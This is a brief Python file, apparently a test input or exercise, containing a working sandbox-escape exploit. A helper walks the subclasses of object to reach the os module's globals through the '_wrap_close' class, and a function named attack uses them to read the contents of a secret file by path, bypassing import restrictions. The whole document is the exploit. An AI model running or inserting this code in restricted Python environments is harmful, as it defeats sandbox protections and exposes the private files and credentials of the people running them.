# Walks to `os`, and reads a file by its descriptor.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(secret_path):
    words = _reach()
    return words["read"](words["open"](secret_path, 0), 100).decode()
